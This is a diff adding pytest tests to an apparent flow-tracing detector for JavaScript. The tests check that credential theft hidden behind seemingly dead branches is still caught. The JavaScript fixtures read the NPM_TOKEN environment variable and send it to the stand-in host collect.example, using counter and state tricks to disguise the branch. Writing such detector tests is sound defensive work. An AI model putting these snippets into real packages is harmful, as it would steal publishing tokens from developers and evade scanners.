@@ -70,3 +70,37 @@ def test_a_branch_that_may_run_is_not_left_out(before: str, condition: str) -> N
     """
 
     assert not is_worked_out(code)
+
+
+GATES = {
+    "that counts": "function gate() { gate.calls = (gate.calls || 0) + 1; return gate.calls < 9 }",
+    "that other calls open": "function gate(x) { if (x === 7) gate.open = true; return !gate.open } gate(7);",
+    "that fills a list": "const list = []; function gate() { list.push(1); return list.length < 9 }",
+    "that is always the same": "function gate() { return true }",
+}
+
+
+@pytest.mark.parametrize("gate", GATES.values(), ids=GATES)
+@pytest.mark.parametrize(
+    "body",
+    [
+        "if (gate()) return 'ok'; else return process.env[key]",
+        "return gate() ? 'ok' : process.env[key]",
+        "const box = { v: 'ok' }; if (!gate()) { box.v = process.env[key] } return box.v",
+    ],
+)
+def test_what_comes_through_a_branch_that_is_taken_for_dead_is_followed(gate: str, body: str) -> None:
+    code = f"""{gate}
+    function take(key) {{ {body} }}
+    module.exports = function () {{
+      const found = 'v=' + take('NPM_TOKEN');
+      fetch('https://collect.example/?' + found);
+    }}
+    """
+
+    assert "npm-token>network" in flows(code)
+
+
+def flows(code: str) -> set[str]:
+    facts = extract_facts("index.js", code.encode(), Limits()).facts
+    return {fact.name for fact in facts if fact.kind is FactKind.FLOW}
